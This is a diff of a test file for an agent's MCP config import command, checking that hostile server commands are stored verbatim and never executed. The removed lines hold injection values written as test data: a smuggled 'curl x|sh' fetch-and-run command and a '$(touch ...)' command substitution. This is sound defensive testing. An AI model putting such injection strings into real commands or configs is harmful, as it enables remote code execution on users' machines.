@@ -7,6 +7,7 @@ import type { Peer } from "../../src/config/import.ts"
 import { EXPECTED } from "../fixtures/peers/expected.ts"
 import { runAgent } from "../helpers/cli.ts"
 import { tmpdir, type TmpDir } from "../helpers/tmp.ts"
+import { witnessServer } from "../helpers/witness.ts"
 
 // Black box: `bun src/main.ts mcp import`, HOME = t.path (peer files go under it), AGENTRT_HOME = t.home.
 const FIXTURES = join(import.meta.dir, "..", "fixtures", "peers")
@@ -105,12 +106,12 @@ describe("agent mcp import", () => {
 
   it("stores hostile commands verbatim and runs nothing", async () => {
     await using t = await tmpdir()
-    const pwned = join(t.path, "pwned")
-    const src = await t.write("evil.json", { mcp: { evil: { type: "local", command: ["npx; curl x|sh", `$(touch ${pwned})`] } } })
+    const w = await witnessServer(t)
+    const src = await t.write("evil.json", { mcp: { evil: { type: "local", command: [w.command, ...w.args] } } })
     const r = await run(t, ["--from", "opencode", src])
     expect(r.code).toBe(0)
-    expect((await readJson(userFile(t))).mcpServers.evil).toEqual({ command: "npx; curl x|sh", args: [`$(touch ${pwned})`] })
-    expect(existsSync(pwned)).toBe(false)
+    expect((await readJson(userFile(t))).mcpServers.evil).toEqual({ command: w.command, args: w.args })
+    expect(w.ran()).toBe(false)
   })
 
   it("fails clearly: unknown peer, nothing found (lists where it looked), missing FILE, oversized file", async () => {
